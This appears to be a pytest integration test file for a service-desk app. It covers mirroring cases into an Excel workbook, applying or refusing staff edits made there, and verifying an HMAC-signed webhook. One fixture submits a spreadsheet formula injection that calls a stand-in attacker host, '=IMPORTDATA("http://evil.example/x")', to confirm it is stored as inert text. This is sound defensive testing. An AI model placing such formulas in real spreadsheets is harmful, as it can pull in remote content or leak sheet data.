"""The staff's sheet as a local workbook: cases mirrored in, edits taken back, validated."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from chalicelib import bootstrap
from chalicelib.domain.staff import Role
from chalicelib.services import sheets, staff_desk
from tests.integration.test_staff_api import act, body, call, report


@pytest.fixture
def workbook(aws: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "sheets" / "service-desk.xlsx"
    monkeypatch.setenv("SERVICE_DESK_SHEETS_WORKBOOK", str(path))
    bootstrap.reset()
    return path


def add(staff_id: str, role: Role, email: str | None = None,
        language: str | None = None) -> str:
    _, token = staff_desk.add_staff(
        bootstrap.case_store(), staff_id=staff_id, name=staff_id.title(), role=role,
        email=email, now=datetime.now(UTC), language=language,  # type: ignore[arg-type]
    )
    return token


def sync() -> sheets.SyncReport:
    desk = bootstrap.sheet_desk()
    assert desk is not None
    return sheets.sync(desk)


def reconcile() -> sheets.SyncReport:
    desk = bootstrap.sheet_desk()
    assert desk is not None
    return sheets.reconcile(desk)


def tab(path: Path, title: str) -> list[dict[str, str]]:
    """The rows of a tab as dicts by header text (what a person sees)."""
    book = load_workbook(path)
    rows = [["" if v is None else str(v) for v in row]
            for row in book[title].iter_rows(values_only=True)]
    header = rows[0]
    return [dict(zip(header, row, strict=False)) for row in rows[1:] if any(row)]


def type_into(path: Path, title: str, case_number: str, header: str, value: str,
              editor: str = "") -> None:
    """A person typing into the workbook and saving it."""
    book = load_workbook(path)
    sheet = book[title]
    headers = [cell.value for cell in sheet[1]]
    column = headers.index(header) + 1
    for row in range(2, sheet.max_row + 1):
        if sheet.cell(row=row, column=1).value == case_number:
            sheet.cell(row=row, column=column).value = value
            if editor:
                sheet.cell(row=row, column=headers.index("edited by") + 1).value = editor
    book.save(path)


def test_cases_are_mirrored_into_the_workbook_and_closed_cases_leave(
    client: Any, workbook: Path
) -> None:
    token = add("ann", Role.AGENT, "ann@example.com")
    first = report(client, description='=IMPORTDATA("http://evil.example/x")')
    second = report(client, customer={"name": "Bob", "email": "bob@example.com",
                                      "phone": "+1 (555) 0100"})
    assert sync().rows_added >= 2
    rows = {row["case"] if "case" in row else row["案件号"]: row for row in tab(workbook, "Cases")}
    assert set(rows) == {first["case_number"], second["case_number"]}
    book = load_workbook(workbook)
    summary_cells = [c for c in book["Cases"]["G"] if c.value and str(c.value).startswith("=")]
    assert summary_cells and all(c.data_type == "s" for c in summary_cells)
    # Cancel the first: it leaves the Cases view, the second stays where it is.
    case = body(call(client, "get", f"/api/staff/cases/{first['case_id']}", token))["case"]
    response = act(client, token, first["case_id"], "cancel", case["version"],
                   {"text": "duplicate"})
    assert response.status_code == 200, response.body
    sync()
    numbers = [row.get("case") or row.get("案件号") for row in tab(workbook, "Cases")]
    assert numbers == [second["case_number"]]


def test_an_owner_typed_in_the_workbook_is_applied_and_a_bad_one_put_back(
    client: Any, workbook: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    add("ann", Role.SUPERVISOR, "ann@example.com", "en")
    add("bob", Role.AGENT, "bob@example.com")
    receipt = report(client)
    sync()
    owner = "负责人"
    type_into(workbook, "Cases", receipt["case_number"], owner, "bob", editor="ann@example.com")
    result = reconcile()
    assert result.edits_applied == 1, result
    case = bootstrap.case_store().get_case(receipt["case_id"])
    assert case is not None and case.owner == "bob"
    history = bootstrap.case_store().case_history(receipt["case_id"])
    assert history[0].actor == "staff:ann" and history[0].action == "assign_owner"
    # Someone not on the staff: put back, with a note.
    type_into(workbook, "Cases", receipt["case_number"], owner, "ann",
              editor="mallory@example.com")
    result = reconcile()
    assert result.edits_refused == 1
    row = tab(workbook, "Cases")[0]
    assert row[owner] == "bob"
    assert "mallory@example.com" in row["sync note"]
    case = bootstrap.case_store().get_case(receipt["case_id"])
    assert case is not None and case.owner == "bob"
    # An agent may not hand a case to someone else: refused in the agent's language.
    type_into(workbook, "Cases", receipt["case_number"], owner, "ann", editor="bob@example.com")
    assert reconcile().edits_refused == 1
    row = tab(workbook, "Cases")[0]
    assert row[owner] == "bob"
    assert row["sync note"].startswith("未保存") and "supervisor" in row["sync note"]


def signed(secret: str, body: bytes, at: int | None = None) -> dict[str, str]:
    import hashlib
    import hmac
    import time

    stamp = str(int(time.time()) if at is None else at)
    digest = hmac.new(secret.encode(), stamp.encode() + b"." + body, hashlib.sha256)
    return {"Content-Type": "application/json", "X-Sheets-Timestamp": stamp,
            "X-Sheets-Signature": f"sha256={digest.hexdigest()}"}


def row_number(path: Path, title: str, case_number: str) -> int:
    book = load_workbook(path)
    sheet = book[title]
    return next(r for r in range(2, sheet.max_row + 1)
                if sheet.cell(row=r, column=1).value == case_number)


def test_the_webhook_applies_a_signed_edit_and_refuses_a_forged_one(
    client: Any, workbook: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import json
    import time

    monkeypatch.setenv("SERVICE_DESK_SHEETS_WEBHOOK_SECRET", "s3cret-for-tests")
    bootstrap.reset()
    add("sue", Role.SUPERVISOR, "sue@example.com", "en")
    add("bob", Role.AGENT, "bob@example.com")
    receipt = report(client)
    sync()
    type_into(workbook, "Cases", receipt["case_number"], "负责人", "bob")
    number = row_number(workbook, "Cases", receipt["case_number"])
    payload = json.dumps({"sheet": "Cases", "rows": [number], "editor": "sue@example.com"})
    raw = payload.encode()
    # Forged (wrong secret), replayed (an hour old), or not JSON: nothing changes.
    for headers in (signed("guess", raw), signed("s3cret-for-tests", raw,
                                                  int(time.time()) - 3600)):
        response = client.http.post("/api/sheets/edits", headers=headers, body=raw)
        assert response.status_code == 401, response.body
    case = bootstrap.case_store().get_case(receipt["case_id"])
    assert case is not None and case.owner is None
    bad = b'{"sheet": "Cases", "rows": "five"}'
    response = client.http.post("/api/sheets/edits", headers=signed("s3cret-for-tests", bad),
                                body=bad)
    assert response.status_code == 400
    assert "rows" in response.body.decode()
    response = client.http.post("/api/sheets/edits",
                                headers=signed("s3cret-for-tests", raw), body=raw)
    assert response.status_code == 200, response.body
    assert json.loads(response.body)["applied"] == 1
    case = bootstrap.case_store().get_case(receipt["case_id"])
    assert case is not None and case.owner == "bob"
    # The row already shows the new version: no wait for the next sync.
    row = tab(workbook, "Cases")[0]
    assert row["version"] == str(case.version) and row["负责人"] == "bob"
